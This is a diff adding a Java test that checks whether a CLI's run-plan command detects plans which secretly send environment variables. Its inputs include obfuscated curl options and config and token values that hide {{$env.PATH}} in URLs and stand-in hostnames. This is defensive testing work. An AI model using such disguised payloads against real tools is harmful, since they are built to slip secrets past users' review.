@@ -15,6 +15,7 @@ import java.nio.file.StandardOpenOption;
 import java.time.Instant;
 import java.util.ArrayList;
 import java.util.Arrays;
+import java.util.HashMap;
 import java.util.List;
 import java.util.Map;
 import java.util.Optional;
@@ -196,6 +197,32 @@ class PlanCommandTest {
             assertThat(call("run --plan", file.toString(), allowed).firstErrorLine())
                     .contains(changed);
         }
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "--curl=curl 'http://127.0.0.1:1/?q={{$e''nv.PATH}}'",
+                "--curl=curl $'http://127.0.0.1:1/?q={{\\x24env.PATH}}'",
+                "--curl=curl 'http://{{$e''nv.PATH}}.example:{{$e''nv.PATH}}/'",
+                "--env=evil",
+                "--bearer-file=token.txt"
+            })
+    void a_plan_of_somebody_else_cannot_hide_which_variables_it_sends(String option) throws IOException {
+        Path own = Files.writeString(folder.resolve("own.http"), "GET http://127.0.0.1:1/{{t}}");
+        Files.writeString(folder.resolve("http-client.env.json"), "{\"evil\": {\"t\": \"{{\\u0024env.PATH}}\"}}");
+        Path token = Files.writeString(folder.resolve("token.txt"), "{{$env.PATH}}");
+        String[] parts = option.replace("token.txt", token.toString()).split("=", 2);
+        Map<String, List<String>> said = new HashMap<>(Map.of(parts[0], List.of(parts[1])));
+        if (!parts[0].equals("--curl")) {
+            said.put("TARGET", List.of(own.toString()));
+        }
+        Path file = folder.resolve("plan.json");
+        Measurement value = Values.of(Measurement.class, said);
+        Files.writeString(
+                file, new PlanFile("1", "0", 1, Optional.empty(), "t", "l", Values.tree(value), List.of(), "0").text());
+        assertThat(call("run --plan", file.toString()).firstErrorLine())
+                .contains("sends PATH of this environment. If you trust it, add --allow-env.");
     }
 
     @Test
